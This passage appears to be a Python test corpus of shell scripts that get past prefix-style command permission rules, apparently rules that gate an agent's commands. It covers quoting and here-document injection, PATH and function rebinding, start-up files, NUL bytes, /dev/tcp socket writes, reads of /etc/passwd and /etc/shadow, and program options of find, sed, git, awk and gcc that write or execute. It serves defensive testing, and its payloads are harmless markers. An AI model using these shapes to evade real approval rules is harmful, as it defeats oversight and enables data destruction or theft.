"""Attack shapes against prefix-style shell rules, each with what a real shell does with it.

Every entry is proven, not believed: tests/shell_oracle/test_attack_corpus.py runs it in
the real shell inside the sandbox (tests/shell_oracle/sandbox.py) and asserts that the
`effect` happens and that the script does something the rules, applied literally, do
not allow; then asserts that the engine never says ALWAYS for it. An entry whose
effect a real shell does not produce is fixed or removed, never kept.

Payloads are harmless markers: `touch /workspace/PWNED`, `rm -rf /workspace/victim`
(a folder the sandbox's fixture provides), writes to /etc, /root or /home (refused
with EROFS in the sandbox, yet the attempt is in the trace), reads of /etc/hostname
or /etc/passwd, and connections to 127.0.0.1 (there is no network). The fixture's
/workspace/bin holds planted programs (`ls`, `cat`, `git`, `echo`, `pre-commit`) that
touch /workspace/PWNED: what an agent allowed to write in the workspace could have
left there.

`policy` names the policy of tests/shell_corpus/policies.py the attack is aimed at:
`review` (the outside review's), `benign` (which also admits sed, sort, awk, tee,
make, git subcommands, ...: the acting options of those programs need it), `links`
(benign, with `ln`) or `builtins` (benign, with `pushd`, `popd`, `builtin`, `command`,
`declare`, `typeset`, `export` and `unset` too).
"""

import shlex
from dataclasses import dataclass


@dataclass(frozen=True)
class Effect:
    """What the real shell does: `kind` is one of the oracle's kinds (oracle.Kind)."""

    kind: str
    subject: str

    def __str__(self) -> str:
        return f"{self.kind}: {self.subject}"


@dataclass(frozen=True)
class Attack:
    script: str
    klass: str
    effect: Effect
    shell: str = "bash"  # bash, sh (dash) or zsh
    policy: str = "review"
    stdin: bool = False  # fed on standard input (a NUL byte cannot travel in argv)

    @property
    def id(self) -> str:
        return f"{self.shell}/{self.policy}:{self.script!r}"


def ran(command: str) -> Effect:
    return Effect("program run", command)


def wrote(path: str) -> Effect:
    return Effect("file written", path)


def read(path: str) -> Effect:
    return Effect("file read", path)


def child(command: str) -> Effect:
    return Effect("child process", command)


SOCKET = Effect("socket", "")

TOUCH = "touch /workspace/PWNED"
RM = "rm -rf /workspace/victim"
PAYLOADS = ((TOUCH, ran(TOUCH)), (RM, ran(RM)))
# A planted /workspace/bin program ran and touched the marker (by its full path, so a PATH
# the script changed cannot stop it).
PLANTED = child("/usr/bin/touch /workspace/PWNED")
# A configure step ran (CMake's platform checks start `uname` first).
UNAME = child("/bin/sh -c /usr/bin/uname")

ATTACKS: list[Attack] = []


def _add(klass: str, script: str, effect: Effect, **options) -> None:
    attack = Attack(script, klass, effect, **options)
    if all(attack.id != known.id for known in ATTACKS):  # a shape already in keeps its class
        ATTACKS.append(attack)


# -- single quotes are literal inside "${x:-…}": the substitution runs -------------------
QUOTED_DEFAULT = "quotes in ${x:-…}"
for template in (
    """echo "${x:-'$(%s)'}\"""",
    """echo "${x-'$(%s)'}\"""",
    """echo "${x:='$(%s)'}\"""",
    """echo "${x='$(%s)'}\"""",
    """x=1; echo "${x:+'$(%s)'}\"""",
    """x=1; echo "${x+'$(%s)'}\"""",
    """echo "${x:-'`%s`'}\"""",
    """ls "${x:-'$(%s)'}\"""",
    """cat "${x:-'$(%s)'}\"""",
    """grep -r "${x:-'$(%s)'}" /workspace/src""",
    """echo "a${x:-'$(%s)'}b\"""",
    """echo "${x:-"${y:-'$(%s)'}"}\"""",
    """echo hi > "/workspace/${x:-'$(%s)'}\"""",
):
    for payload, effect in PAYLOADS:
        _add(QUOTED_DEFAULT, template % payload, effect)
        _add(QUOTED_DEFAULT, template % payload, effect, shell="sh")

# -- $'…' inside ${…}: bash reads the ANSI-C quote, and what follows is outside quotes ----
ANSI_C_IN_EXPANSION = "$'…' in ${…}"
for template in (
    r"""echo ${x:-$'\'' $(%s) \'}""",
    r"""echo ${x-$'\'' $(%s) \'}""",
    r"""echo ${x:=$'\'' $(%s) \'}""",
    r"""ls ${x:-$'\'' $(%s) \'}""",
    r"""echo ${x:-$'\'' `%s` \'}""",
    r"""echo ${x:-$'\x27' $(%s) $'\x27'}""",
    r"""cat ${x:-$'\'' $(%s)}""",
):
    for payload, effect in PAYLOADS:
        _add(ANSI_C_IN_EXPANSION, template % payload, effect)

# -- backslash-newline joins lines before anything else is read -------------------------
CONTINUATION = "backslash-newline"
for template in (
    '"$\\\n(%s)"',
    'echo "$\\\n(%s)"',
    "echo $\\\n(%s)",
    'echo "$\\\n{x:-$\\\n(%s)}"',
    "echo $(\\\n%s)",
    "echo $\\\n(\\\n%s\\\n)",
    'echo "${x:-\\\n$(%s)}"',
    "ls -la # \\\n%s",
    "echo x \\\\\n%s",
    "ls -la \\\n&& %s",
    "e\\\ncho $\\\n(%s)",
):
    for payload, effect in PAYLOADS:
        _add(CONTINUATION, template % payload, effect)
        _add(CONTINUATION, template % payload, effect, shell="sh")
_add(CONTINUATION, "r\\\nm -rf /workspace/victim", ran(RM))
_add(CONTINUATION, "ec\\\nho x; r\\\nm -rf /workspace/victim", ran(RM))
_add(CONTINUATION, "echo x >\\\n/etc/fluidbox-x", wrote("/etc/fluidbox-x"))
_add(CONTINUATION, "ec\\\nho x > /etc/fluidbox-x", wrote("/etc/fluidbox-x"))
_add(CONTINUATION, "$\\\n'\\x74ouch' /workspace/PWNED", ran(TOUCH))

# -- here-documents opened inside $( and <(: the lines after them are commands ------------
HERE_DOCUMENT = "here-document in $( or <("
for template in (
    "echo $(cat <<E\nE\n)\n%s\n",
    'echo "$(cat <<E\nx\nE\n)"; %s\n',
    "cat <(cat <<E\nE\n)\n%s\n",
    "cat <(cat <<'E'\nE\n); %s\n",
    "echo $(cat <<E\n$(%s)\nE\n)\n",
    "ls <(cat <<E\nE\n) && %s\n",
    "echo `cat <<E\nE\n`\n%s\n",
    "x=$(cat <<-E\n\tE\n)\n%s\n",
    "cat <<E\n$(%s)\nE\n",
    'cat <<"E"\nfoo\nE\n%s\n',
    "cat <<E; %s\nbody\nE\n",
    "cat <<E\n`%s`\nE\n",
    "echo $(cat <<E) x\nE\n%s\n",
    # the shapes the subset reads exactly, each with the payload where the shell runs it:
    # a body that ends at its first marker line, a body fed to a shell, a substitution's
    "grep x <<'E' ; ls\nE\n%s\nE\n",
    "cat <<'E' | sh\n%s\nE\n",
    "git log -1 \"$(cat <<'E'\nx\nE\n)\" ; %s\n",
):
    for payload, effect in PAYLOADS:
        _add(HERE_DOCUMENT, template % payload, effect)
        if "<(" not in template:
            _add(HERE_DOCUMENT, template % payload, effect, shell="sh")

# -- for x do …: no `in` word, the loop runs over the positional parameters ----------------
FOR_WITHOUT_IN = "for without in"
for template in (
    "sh -c 'for x do %s; done' sh 1",
    "bash -c 'for x do %s; done' bash 1",
    "set -- 1; for x do %s; done",
    "set -- a; for x; do %s; done",
    "set -- a\nfor x\ndo %s\ndone",
    "f() { for x do %s; done; }; f 1",
    "set 1; for x do %s; done",
    "sh -c 'for x do %s; done' - 1",
):
    for payload, effect in PAYLOADS:
        _add(FOR_WITHOUT_IN, template % payload, effect)
        if not template.startswith("f()"):
            _add(FOR_WITHOUT_IN, template % payload, effect, shell="sh")

# -- arithmetic contexts evaluate array subscripts, and the subscripts substitute ------------
ARITHMETIC = "arithmetic evaluation"
for template in (
    "for y in 'a[$(%s)]'; do echo ${PATH:y}; done",
    "y='a[$(%s)]'; echo ${PATH:y}",
    "y='a[$(%s)]'; echo ${PATH:0:y}",
    "x='a[$(%s)]'; echo $((x))",
    "x='a[$(%s)]'; echo $[x]",
    "x='a[$(%s)]'; (( x ))",
    "x='a[$(%s)]'; let x",
    "x='a[$(%s)]'; a=(1); echo ${a[x]}",
    "test -v 'a[$(%s)]'",
    "[ -v 'a[$(%s)]' ]",
    "x='a[$(%s)]'; [[ $x -eq 0 ]]",
    "printf -v 'a[$(%s)]' x",
    "read 'a[$(%s)]' <<< x",
    "x='a[$(%s)]'; declare -i y=x",
    "x='a[$(%s)]'; echo $((x+1))",
    "x='a[$(%s)]'; echo ${x:x}",
    "declare -n r='a[$(%s)]'; echo $r",
):
    for payload, effect in PAYLOADS:
        _add(ARITHMETIC, template % payload, effect)

# -- a loop variable, an assignment or a function rebinds what a name runs ---------------
REBINDING = "rebinding names"
for script in (
    "for PATH in /workspace/bin; do ls; done",
    "for PATH in /workspace/bin; do ls -la; done",
    "for PATH in /workspace/bin; do cat /workspace/notes.txt; done",
    "for PATH in /workspace/bin; do git status; done",
    "PATH=/workspace/bin ls",
    "PATH=/workspace/bin:$PATH ls -la",
    "export PATH=/workspace/bin; ls",
    "PATH=/workspace/bin; ls",
    "hash -p /workspace/bin/ls ls; ls",
    "read PATH <<< /workspace/bin; ls",
    "printf -v PATH /workspace/bin; ls",
    "declare PATH=/workspace/bin; ls",
    "IFS=: read PATH x <<< /workspace/bin:y; ls",
    "exec -a ls /workspace/bin/ls",
    "/workspace/bin/ls -la",
    "/workspace/bin/git status",
):
    _add(REBINDING, script, ran("/workspace/bin/"))
for script, command in (
    ("cd /workspace/bin; ./ls", "./ls"),
    ("./bin/ls", "./bin/ls"),
    ("bin/cat /workspace/notes.txt", "bin/cat"),
    ("cd bin && ./git status", "./git status"),
    ("cd /workspace/bin && PATH=. ls", "./ls"),
):
    _add(REBINDING, script, ran(command))
for script in (
    "for PATH in /workspace/bin; do ls; done",
    "PATH=/workspace/bin ls",
    "export PATH=/workspace/bin; ls",
    "PATH=/workspace/bin:$PATH cat /workspace/notes.txt",
):
    _add(REBINDING, script, ran("/workspace/bin/"), shell="sh")
    _add(REBINDING, script, ran("/workspace/bin/"), shell="zsh")
for template in (
    "ls() { %s; }; ls",
    "function ls { %s; }; ls -la",
    "cat() { %s; }; cat x",
    "echo() { %s; }; echo hi",
    "git() { %s; }; git status",
    "shopt -s expand_aliases\nalias ls='%s'\nls\n",
    "command_not_found_handle() { %s; }; nosuchprogram",
    "trap '%s' EXIT; ls",
    "trap '%s' DEBUG; ls",
    "trap '%s' ERR; ls /nonexistent",
):
    for payload, effect in PAYLOADS:
        _add(REBINDING, template % payload, effect)
_add(REBINDING, "ls() { touch /workspace/PWNED; }; ls", ran(TOUCH), shell="sh")
_add(REBINDING, "trap 'touch /workspace/PWNED' EXIT; ls", ran(TOUCH), shell="sh")

# -- a shell reading its script from standard input reads the last redirection ------------
SHELL_STDIN = "shell stdin"
for template in (
    "bash <<< 'echo ok' < <(echo '%s')",
    "bash < <(echo '%s')",
    "echo '%s' | bash",
    "echo '%s' | sh",
    "echo '%s' | bash -s",
    "bash -s <<< '%s'",
    "sh <<< '%s'",
    "bash <<E\n%s\nE\n",
    "sh <<'E'\n%s\nE\n",
    "bash /dev/stdin <<< '%s'",
    "echo '%s' > /workspace/s.sh; bash /workspace/s.sh",
    "echo '%s' > /workspace/s.sh; sh /workspace/s.sh",
    "echo '%s' > /workspace/s.sh; . /workspace/s.sh",
    "echo '%s' > /workspace/s.sh; source /workspace/s.sh",
    "bash -c 'read l; eval $l' <<< '%s'",
    "echo '%s' | zsh",
):
    for payload, effect in PAYLOADS:
        _add(SHELL_STDIN, template % payload, effect)
_add(SHELL_STDIN, "echo 'touch /workspace/PWNED' | bash", ran(TOUCH), shell="sh")
_add(SHELL_STDIN, "sh <<E\ntouch /workspace/PWNED\nE\n", ran(TOUCH), shell="sh")

# -- start-up files: a shell runs them before its -c script --------------------------------
STARTUP = "start-up files"
for template in (
    "bash --rcfile <(echo '%s') -ic 'echo ok'",
    "bash --init-file <(echo '%s') -i -c 'echo ok'",
    "BASH_ENV=<(echo '%s') bash -c 'echo ok'",
    "echo '%s' > /workspace/rc; BASH_ENV=/workspace/rc bash -c 'echo ok'",
    "env BASH_ENV=<(echo '%s') bash -c :",
    "ENV=<(echo '%s') sh -i -c 'echo ok'",
    "echo '%s' > /workspace/.bashrc; HOME=/workspace bash -i -c 'echo ok'",
    "echo '%s' > /workspace/.profile; HOME=/workspace bash -l -c 'echo ok'",
    "echo '%s' > /workspace/.zshenv; ZDOTDIR=/workspace zsh -c 'echo ok'",
    "echo '%s' > /workspace/.profile; HOME=/workspace sh -l -c 'echo ok'",
):
    for payload, effect in PAYLOADS:
        _add(STARTUP, template % payload, effect)
for script, path in (
    ("bash -l -c 'echo ok'", "/etc/profile"),
    ("bash --login -c 'echo ok'", "/etc/profile"),
    ("bash -i -c 'echo ok'", "/etc/bash.bashrc"),
    ("bash -ic 'ls'", "/etc/bash.bashrc"),
    ("sh -l -c 'echo ok'", "/etc/profile"),
    ("zsh -i -c 'echo ok'", "/etc/zsh/zshrc"),
    ("zsh -l -c 'echo ok'", "/etc/zsh/zprofile"),
):
    _add(STARTUP, script, read(path))
_add(
    STARTUP,
    "echo 'touch /workspace/PWNED' > rc; ENV=/workspace/rc sh -i -c :",
    ran(TOUCH),
    shell="sh",
)
_add(
    STARTUP, "bash --rcfile <(echo 'touch /workspace/PWNED') -ic 'echo ok'", ran(TOUCH), shell="zsh"
)

# -- file descriptors beyond 0-2, and the shells' network paths -----------------------------
FD = "fd redirections"
for script in (
    "cat /etc/hostname 3<>/dev/tcp/127.0.0.1/9 >&3",
    "exec 3<>/dev/tcp/127.0.0.1/9",
    "echo x > /dev/tcp/127.0.0.1/9",
    "echo x > /dev/udp/127.0.0.1/9",
    "ls > /dev/tcp/10.0.0.1/80",
    "cat < /dev/tcp/127.0.0.1/9",
    "ls 2>/dev/tcp/127.0.0.1/9",
    "ls 0</dev/tcp/127.0.0.1/9",
    "exec {s}<>/dev/tcp/127.0.0.1/9",
    "echo hi >/dev/tcp/localhost/9",
    "cat /workspace/notes.txt > /dev/tcp/127.0.0.1/443",
    "ls -la 3</dev/tcp/127.0.0.1/9",
):
    _add(FD, script, SOCKET)
for script, path in (
    ("ls 3>/etc/fluidbox-x", "/etc/fluidbox-x"),
    ("ls 4>>/etc/fluidbox-x", "/etc/fluidbox-x"),
    ("ls 9>/root/.bashrc", "/root/.bashrc"),
    ("ls {fd}>/etc/fluidbox-x", "/etc/fluidbox-x"),
    ("exec 5>/etc/fluidbox-x", "/etc/fluidbox-x"),
    ("ls 3<>/etc/fluidbox-x", "/etc/fluidbox-x"),
    ("ls >&/etc/fluidbox-x", "/etc/fluidbox-x"),
    ("ls 2>&1 3>/etc/fluidbox-x", "/etc/fluidbox-x"),
    ("echo x 1>/etc/fluidbox-x", "/etc/fluidbox-x"),
    ("ls 10>/etc/fluidbox-x", "/etc/fluidbox-x"),
    ("ls 3>/workspace/../etc/fluidbox-x", "/etc/fluidbox-x"),
):
    _add(FD, script, wrote(path))
    if "{" not in script and ">&/" not in script:
        _add(FD, script, wrote(path), shell="sh")
_add(FD, "echo x > /dev/tcp/127.0.0.1/9", wrote("/dev/tcp/127.0.0.1/9"), shell="sh")

# -- a NUL byte: bash cuts a string at it, a shell reading stdin skips it --------------------
NUL = "NUL byte"
for script, path in (
    (r"echo x > $'/etc/passwd\0/../../workspace/x'", "/etc/passwd"),
    (r"echo x >> $'/etc/hosts\0.txt'", "/etc/hosts"),
    (r"ls > $'/root/.bashrc\0/../workspace/y'", "/root/.bashrc"),
    (r"cat /workspace/notes.txt > $'/etc/fluidbox-x\0'", "/etc/fluidbox-x"),
    (r"echo x > $'/etc/fluidbox-x\x00y'", "/etc/fluidbox-x"),
    (r"echo x > $'/etc/fluidbox-x\c@/../../workspace/y'", "/etc/fluidbox-x"),
    (r"echo x > $'/etc/fluidbox-x\00/../workspace/z'", "/etc/fluidbox-x"),
):
    _add(NUL, script, wrote(path))
for script, effect in (
    ("ls -la\0; rm -rf /workspace/victim\n", ran(RM)),
    ("echo ok\0\nrm -rf /workspace/victim\n", ran(RM)),
    ("ls\0 && touch /workspace/PWNED\n", ran(TOUCH)),
    ("ls -la \0> /etc/fluidbox-x\n", wrote("/etc/fluidbox-x")),
    ("echo \0$(touch /workspace/PWNED)\n", ran(TOUCH)),
):
    _add(NUL, script, effect, stdin=True)
    _add(NUL, script, effect, stdin=True, shell="sh")

# -- dialects: dash and zsh read the same bytes differently from bash ------------------------
DIALECT = "dialects"
for template in (
    r"echo $'\' ; %s ; #'",
    r"ls $'\' ; %s ; #'",
    r"echo $'\' && %s ; #'",
    r"cat $'\'; %s #'",
):
    for payload, effect in PAYLOADS:
        _add(DIALECT, template % payload, effect, shell="sh")
        _add(DIALECT, "sh -c " + shlex.quote(template % payload), effect)
for template in (
    "x='$(%s)'; echo ${(e)x}",
    "echo ${(e):-'$(%s)'}",
    "ls /workspace/*(e:'%s':)",
    "ls -d /workspace/*(e:'%s':)",
    "echo =(%s)",
    "ls =(%s)",
    "x='$(%s)'; print -r -- ${(e)x}",
    ": ${(e)${:-'$(%s)'}}",
):
    for payload, effect in PAYLOADS:
        _add(DIALECT, template % payload, effect, shell="zsh")
        _add(DIALECT, "zsh -c " + shlex.quote(template % payload), effect)
_add(DIALECT, "=rm -rf /workspace/victim", ran("/usr/bin/rm -rf /workspace/victim"), shell="zsh")
_add(DIALECT, "zsh -c '=rm -rf /workspace/victim'", ran("/usr/bin/rm -rf /workspace/victim"))

# -- reads through < and $(< f): a read no read rule saw --------------------------------------
READS = "reads through redirections"
for script, path in (
    ("cat < /etc/hostname", "/etc/hostname"),
    ('echo "$(< /etc/hostname)"', "/etc/hostname"),
    ("echo $(< /etc/passwd)", "/etc/passwd"),
    ("grep root < /etc/passwd", "/etc/passwd"),
    ("ls < /etc/shadow", "/etc/shadow"),
    ("cat 0< /etc/os-release", "/etc/os-release"),
    ("echo $(cat < /etc/hostname)", "/etc/hostname"),
    ("cat < /workspace/../etc/hostname", "/etc/hostname"),
    ("cat </etc/hostname", "/etc/hostname"),
    ("cat <'/etc/hostname'", "/etc/hostname"),
    ('cat < "/etc/"hostname', "/etc/hostname"),
    ("source /etc/os-release", "/etc/os-release"),
    (". /etc/os-release", "/etc/os-release"),
    ("read x < /etc/hostname", "/etc/hostname"),
    ("mapfile a < /etc/passwd", "/etc/passwd"),
    ("exec < /etc/hostname; cat", "/etc/hostname"),
    ("while read l; do echo $l; done < /etc/hostname", "/etc/hostname"),
    ('grep x <<< "$(< /etc/hostname)"', "/etc/hostname"),
    ("echo $(</etc/hostname)", "/etc/hostname"),
    ("echo \"$(<'/etc/hostname')\"", "/etc/hostname"),
    ("cat 3</etc/passwd <&3", "/etc/passwd"),
    ("ls -la 2>&1 < /etc/hostname", "/etc/hostname"),
    ("find /workspace -maxdepth 0 < /etc/passwd", "/etc/passwd"),
    ("echo x | cat - < /etc/hostname", "/etc/hostname"),
):
    _add(READS, script, read(path))
    if "$(<" not in script and "mapfile" not in script and "source" not in script:
        _add(READS, script, read(path), shell="sh")
_add(READS, "echo $(< /etc/hostname)", read("/etc/hostname"), shell="zsh")
_add(READS, "cat < /etc/hostname", read("/etc/hostname"), shell="zsh")
_add(READS, "ls <> /etc/hostname", wrote("/etc/hostname"))

# -- options of admitted programs that write, delete or execute ------------------------------
ACTING = "acting options"
for script, effect in (
    ("find /workspace -fprintf /root/.bashrc 'x'", wrote("/root/.bashrc")),
    ("find /workspace -maxdepth 0 -fprint /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
    ("find /workspace -fprint0 /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
    ("find /workspace -fls /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
    ("find -fprint /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
    ("find / -maxdepth 0 -fprint /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
    ("find /workspace -newer /workspace/README.md -fprint /root/x", wrote("/root/x")),
    ("find /etc -maxdepth 1 -name hostname -delete", wrote("/etc/hostname")),
    ("find /etc/hostname -delete", wrote("/etc/hostname")),
    ("find /workspace/src -exec touch /workspace/PWNED \\;", child(TOUCH)),
    ("find /workspace -maxdepth 0 -exec touch /workspace/PWNED {} +", child(TOUCH)),
    ("find /workspace -maxdepth 0 -execdir touch /workspace/PWNED \\;", child(TOUCH)),
    ("find /workspace/victim -exec rm -rf {} +", child(RM)),
    ("find . -maxdepth 0 -exec sh -c 'touch /workspace/PWNED' \\;", child(TOUCH)),
    ("find /workspace/src -name '*.md' -o -exec touch /workspace/PWNED \\;", child(TOUCH)),
    ("find /workspace -maxdepth 1 -name README.md -execdir /workspace/bin/ls \\;", PLANTED),
    ("git log --output=/root/.bashrc", wrote("/root/.bashrc")),
    ("git log --output=/etc/fluidbox-x -1", wrote("/etc/fluidbox-x")),
    ("git log -p --output=/root/x", wrote("/root/x")),
    ("git log --oneline --output=/home/x", wrote("/home/x")),
    ("python -m pytest --basetemp=/home/x tests", wrote("/home/x")),
    ("python -m pytest --junitxml=/etc/fluidbox-x tests", wrote("/etc/fluidbox-x")),
    ("python -m pytest --junit-xml=/root/x tests", wrote("/root/x")),
    ("python -m pytest --log-file=/etc/fluidbox-x tests", wrote("/etc/fluidbox-x")),
    ("python -m pytest -o cache_dir=/etc/fluidbox-x tests", wrote("/etc/fluidbox-x")),
    ("python -m pytest --override-ini=cache_dir=/root/x tests", wrote("/root/x")),
    ("python -m pytest --debug=/etc/fluidbox-x tests", wrote("/etc/fluidbox-x")),
):
    _add(ACTING, script, effect)
for script, effect in (
    ("git diff --output=/etc/fluidbox-x", wrote("/etc/fluidbox-x")),
    ("git show --output=/root/x", wrote("/root/x")),
    ("git grep -O'touch /workspace/PWNED' alpha", child(TOUCH)),
    ("git grep --open-files-in-pager=/workspace/bin/ls alpha", PLANTED),
    ("git fetch --upload-pack='touch /workspace/PWNED' /workspace", child(TOUCH)),
    ("git --no-pager -c alias.st='!touch /workspace/PWNED' st", child(TOUCH)),
    ("git --no-pager -c core.fsmonitor='touch /workspace/PWNED' status", child(TOUCH)),
    ("sed -i s/a/b/ /etc/hostname", wrote("/etc/")),
    ("sed -n 'w /etc/fluidbox-x' /workspace/notes.txt", wrote("/etc/fluidbox-x")),
    ("sed 'e touch /workspace/PWNED' /workspace/notes.txt", child(TOUCH)),
    ("sed '1e touch /workspace/PWNED' /workspace/notes.txt", child(TOUCH)),
    ("sed 's/.*/touch \\/workspace\\/PWNED/e' /workspace/notes.txt", child(TOUCH)),
    ("sed -n 's/a/b/w /etc/fluidbox-x' /workspace/notes.txt", wrote("/etc/fluidbox-x")),
    ("sed --in-place=.bak s/a/b/ /etc/hostname", wrote("/etc/")),
    ("sort -o /etc/fluidbox-x /workspace/notes.txt", wrote("/etc/fluidbox-x")),
    ("sort --output=/root/x /workspace/notes.txt", wrote("/root/x")),
    ("awk 'BEGIN{system(\"touch /workspace/PWNED\")}'", child(TOUCH)),
    ("awk 'BEGIN{print 1 > \"/etc/fluidbox-x\"}'", wrote("/etc/fluidbox-x")),
    ("awk 'BEGIN{\"touch /workspace/PWNED\" | getline}'", child(TOUCH)),
    ('awk \'BEGIN{print "x" | "touch /workspace/PWNED"}\'', child(TOUCH)),
    ("echo x | tee /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
    ("tee -a /root/.bashrc < /workspace/notes.txt", wrote("/root/.bashrc")),
    ("cp /workspace/notes.txt /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
    ("mv /workspace/notes.txt /root/x", wrote("/root/x")),
    ("mkdir /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
    ("touch /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
    ("cp -r /workspace/victim /home/x", wrote("/home/x")),
    ("xxd /workspace/notes.txt /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
    ("env rm -rf /workspace/victim", ran(RM)),
    ("env -S 'rm -rf /workspace/victim'", ran(RM)),
    ("make --eval='x:;@touch /workspace/PWNED' x", child(TOUCH)),
    ("make -f /workspace/README.md --eval='x:;touch /workspace/PWNED' x", child(TOUCH)),
    ("python -m compileall -f -q /usr/lib/python3/dist-packages/_pytest/_io", wrote("/usr/lib/")),
    ("gcc -wrapper /workspace/bin/ls -x c /dev/null -c -o /workspace/a.o", PLANTED),
    ("gcc -x c -c /dev/null -o /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
):
    _add(ACTING, script, effect, policy="benign")
for script, effect in (
    ("echo /workspace/victim | xargs rm -rf", child(RM)),
    ("tar cf /dev/null /workspace/notes.txt --checkpoint=1 "
     "--checkpoint-action=exec='touch /workspace/PWNED'", child(TOUCH)),
    ("rsync -e 'touch /workspace/PWNED' x:y /workspace/z", child("touch /workspace/PWNED")),
    ("ssh -o ProxyCommand='touch /workspace/PWNED' x", child(TOUCH)),
):  # fmt: skip
    _add(ACTING, script, effect, policy="benign")

# -- options read the way the program reads them (FINDINGS F4, F5, F8-F14) ---------------------
OPTION_READING = "options as the program reads them"
X = "/etc/fluidbox-x"
for script, effect in (
    # GNU sed: clusters (`-ne`), abbreviations (`--expr`), --sandbox only for what follows it
    ("sed -ne p -ne 'w /etc/fluidbox-x' /workspace/notes.txt", wrote(X)),
    ("sed -e p --expr 'w /etc/fluidbox-x' /workspace/notes.txt", wrote(X)),
    ("echo x | sed --e='w /etc/fluidbox-x'", wrote(X)),
    ("sed -e 'w /etc/fluidbox-x' -e --sandbox", wrote(X)),
    ("sed 'w /etc/fluidbox-x' -- --sandbox", wrote(X)),
    ("sed -e 'w /etc/fluidbox-x' --sandbox /workspace/notes.txt", wrote(X)),
    ("sed -ne p -se 'e touch /workspace/PWNED' /workspace/notes.txt", child(TOUCH)),
    # the command runs elsewhere than the engine follows
    ("env -C /etc touch fluidbox-x", wrote(X)),
    ("env --chdir=/root touch x", wrote("/root/x")),
    ("env -C /etc python -m pytest -q", wrote("/etc/.pytest_cache")),
    # getopt_long's separate values and abbreviations, xxd's one-word options
    ("cp --target /etc /workspace/notes.txt", wrote("/etc/notes.txt")),
    ("cp --target-directory /root /workspace/notes.txt", wrote("/root/notes.txt")),
    ("cp --target-dir=/etc /workspace/README.md /workspace/notes.txt", wrote("/etc/README.md")),
    ("cp /workspace/notes.txt /etc/fluidbox-x --suffix .bak", wrote(X)),
    ("cp /workspace/notes.txt /etc/fluidbox-x --sparse always", wrote(X)),
    ("uniq --skip-fields 1 /workspace/notes.txt /etc/fluidbox-x", wrote(X)),
    ("xxd -len 4 /workspace/notes.txt /etc/fluidbox-x", wrote(X)),
    ("xxd -cols 4 /workspace/notes.txt /etc/fluidbox-x", wrote(X)),
    ("xxd -ps /workspace/notes.txt /etc/fluidbox-x", wrote(X)),
    ("xxd -C /workspace/notes.txt /etc/fluidbox-x", wrote(X)),
    # xxd's options end at `---` (a dash dropped: `--`) and at its input file (F150)
    ("printf x > ./-c && xxd --- -c /etc/fluidbox-x", wrote(X)),
    ("mkdir ./-d && xxd /workspace/notes.txt -d/../../etc/fluidbox-x", wrote(X)),
    # less reads more options after a prompt's `$`, or a number option's value, which ends
    # at any other character: a lesskey file whose LESSOPEN runs (F150)
    (
        "printf '#env\\nLESSOPEN=|touch /workspace/PWNED; cat %%s\\n' > k && "
        "less --window=--lesskey-src=k notes.txt | cat",
        child(TOUCH),
    ),
    (
        "printf '#env\\nLESSOPEN=|touch /workspace/PWNED; cat %%s\\n' > k && "
        "less '--prompt=x$--lesskey-src=k' notes.txt | cat",
        child(TOUCH),
    ),
    # file names read from input or a list; -l is a flag
    ("echo /usr/lib/python3.11/this.py | python -m compileall -f -i -", wrote("/usr/lib/")),
    ("echo /usr/lib/python3.11/this.py | python -m py_compile -", wrote("/usr/lib/")),
    ("python -m compileall -f -l /usr/lib/python3.11/json", wrote("/usr/lib/")),
    # the byte code of /dev/null goes to /dev/__pycache__ (F138's open item)
    ("python -m py_compile /dev/null", wrote("/dev/__pycache__")),
    # options the tables lacked
    ("pip install --dry-run --report /etc/fluidbox-x -r /dev/null", wrote(X)),
    ("npm ls --logs-dir=/etc/fluidbox-x", wrote(X)),
    ("npm install -C /etc", wrote("/etc/package-lock.json")),
    ("gcc -c -x c /dev/null -o /workspace/a.o -Wa,-a=/etc/fluidbox-x", wrote(X)),
    ("gcc -c -x c /dev/null -o /workspace/a.o -Wp,-MD,/etc/fluidbox-x", wrote(X)),
    ("gcc -c -x c /dev/null -o /workspace/a.o -fdump-tree-original=/etc/fluidbox-x", wrote(X)),
    (
        "echo '-wrapper /usr/bin/touch,/workspace/PWNED' > /workspace/a.rsp && "
        "gcc @/workspace/a.rsp -c -x c /dev/null -o /workspace/a.o",
        child("/usr/bin/touch /workspace/PWNED"),
    ),
    ("printf -v'a[$(rm -rf /workspace/victim)]' x", ran(RM)),
):
    _add(OPTION_READING, script, effect, policy="benign")
# mawk's `-W`, git's revision options and commands beyond log/show/diff, cmake's tools,
# file's and gcc's output files (FINDINGS F16-F20)
for script, effect, shell in (
    ("awk -W interactive 'BEGIN{system(\"touch /workspace/PWNED\")}'", child(TOUCH), "bash"),
    ("awk -W interactive 'BEGIN{system(\"touch /workspace/PWNED\")}'", child(TOUCH), "sh"),
    ("echo 'BEGIN{system(\"touch /workspace/PWNED\")}' | awk -W exec /dev/stdin",
     child(TOUCH), "bash"),
    ("git reflog --output=/etc/fluidbox-x", wrote(X), "bash"),
    ("git shortlog --output=/etc/fluidbox-x HEAD", wrote(X), "bash"),
    ("git blame --output=/etc/fluidbox-x README.md", wrote(X), "bash"),
    ("echo x >> README.md && git stash -q && git stash show --output=/etc/fluidbox-x",
     wrote(X), "bash"),
    ("echo x >> README.md && git stash -q && git stash list --output=/etc/fluidbox-x",
     wrote(X), "bash"),
    ("printf 'connect git-upload-pack\\n' | "
     "git --no-pager remote-ext x 'sh -c touch% /workspace/PWNED'", child(TOUCH), "bash"),
    ("git rev-parse HEAD | git --no-pager pack-objects /etc/fluidbox-x", wrote("/etc/"), "bash"),
    ("git --no-pager init-db -q /etc/fluidbox-x", wrote(X), "bash"),
    ("cmake -E env rm -rf /workspace/victim", child(RM), "bash"),
    ("cmake -E touch /etc/fluidbox-x", wrote(X), "bash"),
    ("ctest --output-log /etc/fluidbox-x", wrote("/etc/"), "bash"),
    ("cd /etc && file -C -m /workspace/README.md", wrote("/etc/README.md.mgc"), "bash"),
